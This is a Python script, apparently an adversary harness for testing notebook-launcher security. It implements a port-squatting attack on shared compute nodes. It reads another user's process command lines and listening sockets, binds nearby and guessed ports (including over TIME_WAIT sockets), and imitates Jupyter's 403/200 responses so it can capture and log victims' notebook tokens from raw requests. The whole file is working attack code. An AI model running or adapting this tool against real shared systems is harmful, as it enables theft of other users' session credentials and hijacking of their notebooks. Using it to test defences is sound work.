"""A hostile neighbour on the compute nodes: another user who grabs every notebook port it can.

Run as an unprivileged user other than the victim (`python3 neighbour.py VICTIM_UID ADDR…`).
It watches the victim's processes (`/proc/*/cmdline`: every number that could be a port)
and listening sockets (`/proc/net/tcp*`), guesses ports next to those, and binds each one on
every node address as fast as it can, retrying the ones still taken. Whatever connects gets
Jupyter's answers (403 without a token, 200 with one), to draw the token out. It prints one
JSON line per event: `learned`, `bound`, and `request` (with the raw request). Standard
library only: it runs with the system Python as its own user.
"""

from __future__ import annotations

import json
import os
import random
import re
import resource
import selectors
import socket
import sys
import threading
import time

GUESSES_PER_PORT = 3  # ports on each side of a learned one
RANDOM_GUESSES = 200  # ports of the ephemeral range held at random
NUMBER = re.compile(rb"(?<![0-9])([1-9][0-9]{3,4})(?![0-9])")

_lock = threading.Lock()


def say(event: str, **fields: object) -> None:
    """One JSON line on stdout."""
    with _lock:
        sys.stdout.write(json.dumps({"event": event, "time": time.time(), **fields}) + "\n")
        sys.stdout.flush()


def victim_cmdline_ports(uid: int) -> set[int]:
    """Every number in the victim's command lines that could be a port."""
    ports = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            if os.stat(f"/proc/{pid}").st_uid != uid:
                continue
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                cmdline = handle.read()
        except OSError:
            continue
        ports |= {int(m) for m in NUMBER.findall(cmdline) if 1024 <= int(m) < 65536}
    return ports


def victim_listening(uid: int) -> set[tuple[str, int]]:
    """(IPv4 address, port) on which the victim's sockets listen."""
    found = set()
    with open("/proc/net/tcp") as handle:
        for row in handle.read().splitlines()[1:]:
            fields = row.split()
            if fields[3] == "0A" and int(fields[7]) == uid:
                address, port = fields[1].split(":")
                found.add((socket.inet_ntoa(bytes.fromhex(address)[::-1]), int(port, 16)))
    return found


class Neighbour:
    """Learns ports, binds them, answers like Jupyter, records every request."""

    def __init__(self, uid: int, addresses: list[str]) -> None:
        self.uid = uid
        self.addresses = addresses
        self.wanted: set[int] = set()
        self.held: dict[tuple[str, int], socket.socket] = {}
        self.seen_listening: set[tuple[str, int]] = set()
        self.selector = selectors.DefaultSelector()
        with open("/proc/sys/net/ipv4/ip_local_port_range") as handle:
            low, high = (int(n) for n in handle.read().split())
        self.wanted |= set(random.sample(range(low, high), RANDOM_GUESSES))

    def learn(self) -> None:
        """Add the ports the victim shows, and their neighbours."""
        for port in victim_cmdline_ports(self.uid):
            self.want(port, "cmdline")
        for address, port in victim_listening(self.uid) - self.seen_listening:
            self.seen_listening.add((address, port))
            self.want(port, "listening", address)

    def want(self, port: int, source: str, address: str = "") -> None:
        """Bind `port` and the ports next to it from now on."""
        if port not in self.wanted or address:
            say("learned", port=port, source=source, address=address)
        for near in range(port - GUESSES_PER_PORT, port + GUESSES_PER_PORT + 1):
            if 1024 <= near < 65536:
                self.wanted.add(near)

    def grab(self) -> None:
        """Try to bind every wanted port on every node address not held yet."""
        for port in list(self.wanted):
            for address in self.addresses:
                if (address, port) in self.held:
                    continue
                sock = socket.socket()
                # As an attacker would: bind over a freed port's lingering TIME_WAIT sockets.
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                try:
                    sock.bind((address, port))
                    sock.listen(64)
                except OSError:
                    sock.close()
                    continue
                sock.setblocking(False)
                self.held[(address, port)] = sock
                self.selector.register(sock, selectors.EVENT_READ, (address, port))
                say("bound", address=address, port=port)

    def watch(self) -> None:
        """Learn and grab, over and over."""
        while True:
            self.learn()
            self.grab()
            time.sleep(0.05)

    def serve(self) -> None:
        """Accept on every held port and answer each request as Jupyter would."""
        while True:
            for key, _ in self.selector.select(timeout=0.05):
                address, port = key.data
                try:
                    conn, _peer = key.fileobj.accept()  # type: ignore[union-attr]
                except OSError:
                    continue
                threading.Thread(target=self.answer, args=(conn, address, port),
                                 daemon=True).start()

    def answer(self, conn: socket.socket, address: str, port: int) -> None:
        """Record the request; 403 without a token (as Jupyter), 200 with one."""
        conn.settimeout(5)
        data = b""
        try:
            while b"\r\n\r\n" not in data and len(data) < 65536:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
            say("request", address=address, port=port, raw=data.decode("latin-1"))
            status = b"200 OK" if b"token" in data.lower() else b"403 Forbidden"
            conn.sendall(b"HTTP/1.1 " + status + b"\r\nContent-Length: 2\r\n"
                         b"Connection: close\r\n\r\n{}")
        except OSError:
            pass
        finally:
            conn.close()


def main() -> None:
    """Run until killed."""
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    neighbour = Neighbour(int(sys.argv[1]), sys.argv[2:])
    say("started", uid=os.getuid(), addresses=neighbour.addresses)
    threading.Thread(target=neighbour.watch, daemon=True).start()
    neighbour.serve()


if __name__ == "__main__":
    main()
